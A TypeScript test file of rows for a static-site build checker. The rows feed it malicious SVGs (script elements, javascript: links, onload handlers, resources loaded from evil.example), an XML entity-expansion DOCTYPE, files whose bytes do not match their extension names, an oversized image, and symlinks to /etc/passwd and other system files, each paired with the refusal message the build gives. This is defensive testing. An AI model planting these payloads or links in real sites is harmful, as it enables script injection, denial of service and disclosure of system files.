/**
 * Bad inputs in the files the site publishes as they are: drawings that would run code or load
 * something when opened on their own (in content/images/ and in static/), files whose bytes are
 * not what their names say, a photo too large to decode, and symbolic links out of the project.
 */
import { mkdir, symlink } from 'node:fs/promises';
import path from 'node:path';
import type { ScratchSite } from '../../helpers/scratch-site.ts';
import { gradientPhoto, pngStating } from '../../helpers/gradient-photo.ts';
import { COVER_MIN_SIZE } from '../../../site/model/cover-images.ts';
import { PAPER, POST, lineOf, type BadInput } from './row.ts';
import { withCover } from './pictures.ts';

const svg = (inner: string, attributes = '') => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 640 360"${attributes}>${inner}</svg>`;
/** Where the rows put a picture in the whitepaper: under its first section after the highlights. */
const PICTURE_LINE = lineOf(PAPER, /^## (?!Highlights)/m) + 2;
const showPicture = (site: ScratchSite, name: string) => site.edit(PAPER, /^(## (?!Highlights).*)$/m, `$1\n\n![Payouts by month](${name})`);

/** A row that shows `drawing` as content/images/payouts.svg in the whitepaper's text, refused as `says`. */
const shownDrawing = (name: string, drawing: string, says: string): BadInput => ({
  name,
  arrange: async (site) => {
    await site.write('content/images/payouts.svg', drawing);
    await showPicture(site, 'payouts.svg');
  },
  says: [`${PAPER}:${PICTURE_LINE}: shows content/images/payouts.svg, which ${says}`],
});

/** A row that puts `data` in static/ as `file` (replacing the site's own, if there is one), refused as `says`. */
const staticFile = (name: string, file: string, data: string | (() => Promise<Uint8Array>), says: string): BadInput => ({
  name,
  arrange: async (site) => site.write(`static/${file}`, typeof data === 'string' ? data : await data()),
  says: [`static/${file}: ${says}`],
});

/** A row that makes `link` (in the copy) a symbolic link to `target`, refused as `says`. */
const linked = (name: string, link: string, target: string, says: string): BadInput => ({
  name,
  arrange: async (site) => {
    await mkdir(path.dirname(path.join(site.root, link)), { recursive: true });
    await symlink(target, path.join(site.root, link));
  },
  says: [`${link}: is a symbolic link (to ${target}), and the build follows no link`, says],
});

const NO_CODE = 'and a drawing may not run code: remove it';
const OUTSIDE = 'which refers outside the drawing, and a drawing may refer only to its own parts (href="#id")';

export const fileRows: BadInput[] = [
  shownDrawing('a drawing with a script in another prefix of the SVG namespace', svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'), `has a <s:script> element, ${NO_CODE}`),
  shownDrawing('a drawing with an XHTML script', svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'), `has a <h:script> element, ${NO_CODE}`),
  shownDrawing('a drawing with a javascript: link written as character references', svg('<a xlink:href="&#106;avascript:alert(1)"><rect width="9" height="9"/></a>'), `has xlink:href="javascript:alert(1)" on <a>, ${NO_CODE}`),
  shownDrawing('a drawing whose script comes from another site', svg('<script href="https://evil.example/x.js"/>'), `has a <script> element, ${NO_CODE}`),
  shownDrawing('a drawing with a web page in a foreignObject', svg('<foreignObject width="9" height="9"><div xmlns="http://www.w3.org/1999/xhtml">Hi</div></foreignObject>'), 'has a <foreignObject> element, and it embeds a web page in the drawing'),
  shownDrawing('a drawing with an ONLOAD attribute in capitals', svg('', ' ONLOAD="alert(1)"'), `has ONLOAD="alert(1)" on <svg>, ${NO_CODE}`),
  shownDrawing('a drawing that uses a part of another site\'s drawing', svg('<use href="https://evil.example/x.svg#a"/>'), `has href="https://evil.example/x.svg#a" on <use>, ${OUTSIDE}`),
  shownDrawing('a drawing that shows an image from another site', svg('<image href="http://evil.example/x.png" width="9" height="9"/>'), `has href="http://evil.example/x.png" on <image>, ${OUTSIDE}`),
  shownDrawing('a drawing whose style imports a style sheet from another site', svg('<style>@import url(https://evil.example/x.css);</style>'), 'has a <style> that loads @import url(https://evil.example/x.css) from outside the drawing'),
  shownDrawing('a drawing that animates a link into javascript:', svg('<a><animate attributeName="href" to="javascript:alert(1)"/><rect width="9" height="9"/></a>'), 'has an <animate> element, and an animation can turn a link into code'),
  shownDrawing('a drawing with an iframe', svg('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>'), 'has an <iframe> element, and a drawing may not load other pages: remove it'),
  shownDrawing(
    'a drawing whose DOCTYPE declares entities that never stop growing',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
    'has a <!DOCTYPE …> declaration, whose entities can read other files or grow without end: remove it',
  ),
  shownDrawing('a drawing that loads a style sheet by a processing instruction', `<?xml version="1.0"?>\n<?xml-stylesheet href="https://evil.example/x.css"?>\n${svg('')}`, 'has a processing instruction (<?xml-stylesheet …?>), which can load a style sheet: remove it'),
  {
    name: 'a picture named .png whose bytes are a drawing',
    arrange: async (site) => {
      await site.write('content/images/payouts.png', svg('<rect width="9" height="9"/>'));
      await showPicture(site, 'payouts.png');
    },
    says: [`${PAPER}:${PICTURE_LINE}: shows content/images/payouts.png, which is named .png but holds markup (an SVG drawing or a web page), which a browser would open as a page: rename it payouts.svg, or export it again as PNG`],
  },
  {
    name: 'a cover photo named .jpg whose bytes are a PNG',
    arrange: async (site) => {
      await site.write('content/images/dealer-meet.jpg', await gradientPhoto(COVER_MIN_SIZE.width, COVER_MIN_SIZE.height, 'png'));
      await withCover(site, POST, 'dealer-meet.jpg');
    },
    says: [`${POST}: "image" names content/images/dealer-meet.jpg, which is named .jpg but holds a PNG: rename it dealer-meet.png, or export it again as JPEG`],
  },
  {
    name: 'a cover photo of 30,000 × 30,000 pixels, more than the encoder reads',
    arrange: async (site) => {
      await site.write('content/images/dealer-meet.png', await pngStating(30000, 30000));
      await withCover(site, POST, 'dealer-meet.png');
    },
    says: [`${POST}: "image" names content/images/dealer-meet.png, which is 30000 × 30000 pixels (900 million), more than the 268 million pixels the image encoder reads (sharp's limitInputPixels): export it again smaller`],
  },
  staticFile('a drawing in static/ with an onload attribute', 'images/diagram.svg', svg('<rect width="9" height="9"/>', ' onload="alert(1)"'), `has onload="alert(1)" on <svg>, ${NO_CODE}`),
  staticFile('a drawing in static/ whose fill comes from another site', 'images/chart.svg', svg('<rect width="9" height="9" fill="url(https://evil.example/p.svg#g)"/>'), 'has fill="url(https://evil.example/p.svg#g)" on <rect>, which loads url(https://evil.example/p.svg#g) from outside the drawing'),
  staticFile('a drawing in static/ that is an HTML page', 'images/chart.svg', '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>', 'is not an SVG drawing: its first element is <html>'),
  staticFile('an image in static/ named .png whose bytes are a drawing', 'images/chart.png', svg('<script>alert(1)</script>'), 'is named .png but holds markup (an SVG drawing or a web page), which a browser would open as a page: rename it chart.svg, or export it again as PNG'),
  staticFile('an image in static/ named .webp whose bytes are a JPEG', 'images/team.webp', () => gradientPhoto(16, 9, 'jpeg'), 'is named .webp but holds a JPEG: rename it team.jpg, or export it again as WebP'),
  staticFile('a compressed drawing in static/, which cannot be checked', 'images/chart.svgz', 'not really compressed', 'is a compressed drawing, which the build cannot check: save it as plain SVG, chart.svg'),
  staticFile('an icon in static/ that is not an image at all', 'images/icon.ico', 'Icon to follow from the design team.', 'is named .ico but is not an ICO icon (nor any other image): export it again as ICO'),
  linked('a symbolic link in static/ to a folder of the system', 'static/etc', '/etc', 'put a copy of the file itself here, or remove the link'),
  linked('a symbolic link in static/ to a file of the system', 'static/images/passwd.png', '/etc/passwd', 'put a copy of the file itself here'),
  linked('a symbolic link in content/images/ to a file outside the project', 'content/images/team.jpg', '/etc/hostname', 'put a copy of the file itself here'),
  linked('a blog post that is a symbolic link to a file outside the project', 'content/blog/passwords.md', '/etc/passwd', 'put a copy of the file itself here'),
];
